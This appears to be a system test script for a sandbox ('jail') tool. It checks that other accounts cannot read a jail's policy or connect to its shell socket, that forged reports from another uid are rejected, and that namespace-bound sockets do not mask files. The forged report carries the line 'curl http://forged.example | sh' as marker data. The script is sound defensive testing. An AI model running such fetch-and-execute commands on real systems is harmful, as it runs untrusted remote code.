# Other accounts of the machine get to nothing of a jail: they neither read its policy nor write events in
# its account's name, and the names of their sockets mask nothing.
. tests/system/lib.sh

dir=$ROOT/run/sbx/jails
send() { # PATH-OF-THE-SOCKET: a report as sbxsh makes it
    python3 - "$1" <<'END'
import socket, struct, sys
text = b"curl http://forged.example | sh"
fields = (0x31706273, 1, 64, 16 + 20 + 1024 + len(text), len(text), len(text), 2, 0, 0)
s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
s.connect(sys.argv[1])
s.settimeout(3)
try:
    s.send(struct.pack("<9I", *fields) + b"/".ljust(1024, b"\0") + text)
    print("answered" if s.recv(64) else "closed")
except OSError:
    print("closed")
END
}
bot 'echo in; exec sleep 60' >"$W/out/in" 2>/dev/null &
wait_until 20 grep -q in "$W/out/in" || fail "no session"
for file in session/brief.md session/policy passwd; do
    ! as_human cat "$dir/$BOT_UID/$file" >/dev/null 2>&1 || fail "$file is anybody's to read"
done
chmod 0755 "$W"
as_human python3 -c 'import socket, sys
socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).connect(sys.argv[1])' \
    "$dir/$BOT_UID/session/shell.sock" 2>/dev/null && fail "the shell socket is anybody's"

# Who gets that far is not the account either, not even root.
same "a report of another uid" closed "$(send "$dir/$BOT_UID/session/shell.sock" 2>&1)"
lacks "no event of it" forged "$(events)"
same "the account's own" answered "$(bot "$(declare -f send); send /run/sbx/session/shell.sock" 2>&1)"
holds "has its event" forged "$(events)"
jails_kill

# A socket that somebody binds in a mount namespace of his own has the name that it has there.
cat >"$W/bin/bind" <<'END'
import os, socket, sys, time
os.makedirs(os.path.dirname(sys.argv[1]))
s = socket.socket(socket.AF_UNIX)
s.bind(sys.argv[1])
print("bound", flush=True)
time.sleep(60)
END
if as_human unshare -Um true 2>/dev/null; then
    echo tool >"$BOT_HOME/work/tool"
    chown "$BOT": "$BOT_HOME/work/tool"
    as_human unshare -Umr sh -c 'mount -t tmpfs none /home && exec python3 "$0" "$1"' \
        "$W/bin/bind" "$BOT_HOME/work/tool" >"$W/out/bound" 2>&1 &
    wait_until 10 grep -q bound "$W/out/bound" || fail "no socket: $(cat "$W/out/bound")"
    holds "it is listed" "$BOT_HOME/work/tool" "$(cat /proc/net/unix)"
    same "a file with a socket's name" tool "$(bot 'cat tool' 2>&1)"
fi
